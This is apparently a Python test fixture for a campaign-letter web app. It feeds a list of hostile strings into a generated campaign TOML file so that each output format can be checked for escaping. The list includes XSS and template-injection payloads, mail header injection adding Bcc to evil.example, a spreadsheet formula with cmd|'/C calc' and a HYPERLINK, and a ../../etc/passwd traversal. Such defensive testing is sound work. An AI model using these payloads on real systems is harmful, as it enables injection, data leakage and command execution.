"""Texts that break out of one format or another. Each producer of output gets all of them."""

import json
from pathlib import Path

from webapp.domain import text as clean

NASTY = {
    "HTML element": '"><script>alert(1)</script><img src=x onerror=alert(2)>',
    "HTML attribute": "' onmouseover='alert(3)' x=\"` style=",
    "HTML comment": "--><!--><svg/onload=alert(4)>]]><x/>",
    "HTML entities": "&lt;b&gt; &amp;amp; &#x3C;script&#x3E; &euro",
    "end of a textarea": "</textarea></title></style></template><hx-partial hx-target='#report'>",
    "template": "{{ 7*7 }}{% raise %}${7*7}#{x}%(name)s{0}%s",
    "script address": "javascript:alert(5)//data:text/html,<script>alert(6)</script>",
    "query": "%0D%0ABcc:%20x@evil.example&to=y@evil.example?body=z#f&amp",
    "mail header": "a\r\nBcc: x@evil.example\r\nContent-Type: text/html\r\n\r\n<b>",
    "encoded word": "=?utf-8?q?a=0D=0ABcc:_x=40evil.example?= =?utf-8?b?Cg==?=",
    "other line ends": "a\x0bBcc: b\x0cBcc: c\x85Bcc: d\u2028Bcc: e\u2029Bcc: f",
    "calendar": "a;b,c\\nd\\;e:f\nEND:VEVENT\nBEGIN:VALARM\nATTENDEE:mailto:x@evil.example",
    "full stop of SMTP": "a\n.\nQUIT\nFrom here",
    "catalogue": 'a" "b\\"\nmsgid "c"\nmsgstr "d"\n#, fuzzy\n#~ msgid "e"',
    "TOML": 'a"""\n[[targets]]\nid = "x"',
    "terminal": "\x1b[31mred\x1b]0;title\x07\x9b2J\x08\x08\x7f",
    "direction": "\u202egnp.exe\u2066 \u200fx\u061c",
    "NUL": "a\x00b\x01",
    "noncharacters": "a\ufffeb\uffffc\ufdd0",
    "formula": '=HYPERLINK("http://evil.example";"x")',
    "plus": "+1+cmd|'/C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1)",
    "tab": "\t=1",
    "return": "\r=1",
    "line feed": "\n=1",
    "full-width formula": "\uff1d1",
    "full-width plus": "\uff0b1",
    "full-width minus": "\uff0d1",
    "full-width at": "\uff20SUM(1)",
    "path": "../../etc/passwd\\..\\x",
    "JSON": '\\u0000","total":9999,"x":"</script>',
    "combining": "e" + "\u0301" * 200,
}


def a_nasty_campaign(root: Path, number: int, text: str, *, has_ended: bool = False) -> str:
    """Write a campaign whose every text is this one, made fit for a campaign file; return its slug.

    What a campaign file cannot hold is taken out as the page takes it out of what is typed.
    """
    slug, line = f"nasty-{number}", json.dumps(clean.line(text), ensure_ascii=False)
    short = json.dumps(clean.line(text)[:40].strip(), ensure_ascii=False)  # the window of an envelope
    block = json.dumps(clean.sanitize(text).strip(), ensure_ascii=False)
    link = f"[{clean.line(text).translate(dict.fromkeys(b'[]'))}](https://lamps.example/a)"
    marked_line = json.dumps(f"{link} *{clean.line(text)}*", ensure_ascii=False)
    marked = json.dumps(f"{link} *{clean.line(text)}*\n\n- {clean.line(text)}", ensure_ascii=False)
    outcome = f'[outcome]\nkind = "improved"\ndate = 2030-01-31\ntext = {block}\n' if has_ended else ""
    folder = root / slug
    folder.mkdir()
    (folder / "campaign.toml").write_text(
        f"""
reference = {line}
language = "en"
country = "FR"
deadline = 2030-05-08
embedding = "open"
languages = ["en"]
headline = {line}
summary = {block}
instructions = [{line}]
background = {marked}
theme = [{line}]
index = {short}

{outcome}
[[people]]
name = {line}
own_script = {line}
pronouns = {short}
about = {line}

[sender]
name = {line}
url = "https://friends.example/?a=b&c='d'"
address = [{line}, {line}]
contact = "office@friends.example"
note = {marked_line}

[letter]
subject = {line}
text = {block}
closing = {line}
post = {line}

[[targets]]
id = "minister"
office = {short}
name = {short}
title = "Minister of Lamps"
address = ["1 Wick Street", "Lampville"]
country = "FR"
email = ["minister@lamps.example", "o'neill+{{x}}&y=z@lamps.example"]
phone = [{{ number = "+1 202 555 0100", note = {line} }}]
social.x = "LampMinister"
salutation = {line}
notes = [{line}, {{ channel = "email", text = {marked_line} }}]
copies_by_post = [{{ name = {short}, address = ["9 Copy Street", "Copytown"], country = "FR" }}]
demands = [{{ text = {line}, locked = true, why = {line} }}]

[[partners]]
id = "friend"
name = {line}
""",
        encoding="utf-8",
    )
    return slug
